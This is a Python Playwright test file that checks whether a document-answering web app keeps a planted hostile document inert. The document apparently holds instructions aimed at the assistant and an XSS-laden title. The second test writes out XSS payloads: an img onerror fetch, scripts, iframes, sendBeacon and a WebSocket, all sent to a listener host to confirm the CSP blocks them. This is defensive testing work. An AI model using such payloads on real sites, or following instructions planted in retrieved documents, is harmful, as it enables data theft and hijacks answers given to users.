"""A document that gives orders, runs scripts and calls elsewhere changes nothing but its own text, in a real Chromium.

Its name, title, headings, text and links, and the name of a unit of the chart, all try; a listener would hear of it.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from tests.pages import ask
from tests.serving import Visit

App = Place = Listener = Any  # of conftest.py
PLANTED = "PWNED-4711"
PATIENCE = 400_000
"""Milliseconds for an answer of a machine that does other things too."""
ALIVE = """() => [...document.querySelectorAll("*")].filter((each) =>
    each.matches("iframe, object, embed, meta[http-equiv], svg script, base:not([href='./'])")
    || [...each.attributes].some(({ name, value }) => /^on/i.test(name) || /^\\s*javascript:/i.test(value))
    || ["href", "src", "action", "data", "poster", "background", "srcset", "xlink:href", "formaction"].some((name) => {
        const found = each.getAttribute(name);
        return found && ![location.origin, "null"].includes(new URL(found, document.baseURI).origin);
    })
  ).map((each) => each.outerHTML.slice(0, 200))"""
"""What of a page would act, or leads elsewhere."""

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(2_400)]


def test_a_hostile_document_changes_nothing_but_its_own_text(place: Place, listener: Listener, visiting: Visit) -> None:
    bert = visiting("bert")
    bert.goto("/")
    expect(bert.locator("#log .welcome")).to_be_visible(timeout=PATIENCE)
    turn = ask(bert, "What does lunch in the canteen cost?", PATIENCE)
    bert.evaluate("document.querySelectorAll('details').forEach((each) => (each.open = true))")
    expect(turn.locator(".evidence")).to_contain_text(PLANTED)  # as what the document says, and as text
    expect(turn.locator(".evidence .document").first).to_have_attribute("title", re.compile("^x<img src=y onerror"))
    assert bert.evaluate(ALIVE) == []
    with bert.context.expect_page() as opening:
        turn.locator("a.open").first.click()
    viewer = opening.value
    expect(viewer.locator("main")).to_contain_text(PLANTED, timeout=PATIENCE)
    assert viewer.evaluate(ALIVE) == []
    assert "\u202e" not in viewer.content()
    other = ask(bert, "What does tea in the bar cost?", PATIENCE)
    expect(other.locator(".words")).not_to_contain_text(PLANTED)
    expect(other.locator(".words")).not_to_contain_text("http")

    answer = str(turn.get_attribute("id")).removeprefix("answer-")
    root = visiting("root")
    hostile = place.keys[next(name for name in place.keys if name.startswith("x<img"))]
    paths = ["/documents", f"/documents/{hostile}", f"/documents/{hostile}/view", "/documents/pairs", "/charts"]
    paths += ["/people", "/people/log", "/review", f"/review/{answer}", "/review/figures", "/quality"]
    for path in paths:
        response = root.goto(path)
        assert response, path
        assert (response.status, root.evaluate(ALIVE)) == (200, []), path
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]
    assert listener.heard == []


def test_what_would_slip_through_all_the_same_is_stopped_by_the_browser(
    app: App, place: Place, listener: Listener, browser: Browser
) -> None:
    """The page's policy, tried with what no page of ours holds."""
    context = browser.new_context(base_url=app.address)
    context.add_cookies([{"name": "trag", "value": place.people["bert"].cookie, "url": app.address}])
    page = context.new_page()
    page.goto(f"/?c={place.conversation}")
    stopped = page.evaluate(
        """async (elsewhere) => {
            const stopped = [];
            addEventListener("securitypolicyviolation", (event) => stopped.push(event.effectiveDirective));
            const slot = document.body.appendChild(document.createElement("div"));
            slot.innerHTML = `<img src="${elsewhere}/image"><img src=x onerror="fetch('${elsewhere}/handler')">
                <iframe src="${elsewhere}/frame"></iframe><object data="${elsewhere}/object"></object>
                <link rel=stylesheet href="${elsewhere}/style"><video src="${elsewhere}/video"></video>
                <div style="background:url(${elsewhere}/background)">x</div>
                <form action="${elsewhere}/form" method=post><button>x</button></form>`;
            const script = document.createElement("script");
            script.src = `${elsewhere}/script`;
            slot.append(script);
            const inline = document.createElement("script");
            inline.textContent = "window.ran = true";
            slot.append(inline);
            await fetch(`${elsewhere}/fetch`).catch(() => 0);
            navigator.sendBeacon(`${elsewhere}/beacon`, "x");
            try { new WebSocket(elsewhere.replace("http", "ws")); } catch {}
            slot.querySelector("form button").click();
            await new Promise((done) => setTimeout(done, 1000));
            return [...new Set(stopped), window.ran ? "ran" : "did not run"];
        }""",
        listener.address,
    )
    assert set(stopped) >= {"img-src", "script-src-attr", "frame-src", "connect-src", "script-src-elem", "did not run"}
    assert re.match(rf"{app.address}/\?c=", page.url)
    context.close()
    # Chromium may connect ahead of a form that is then not sent; not a word goes there.
    words = [each for each in listener.heard if each != "a connection"]
    listener.heard.clear()
    assert words == []
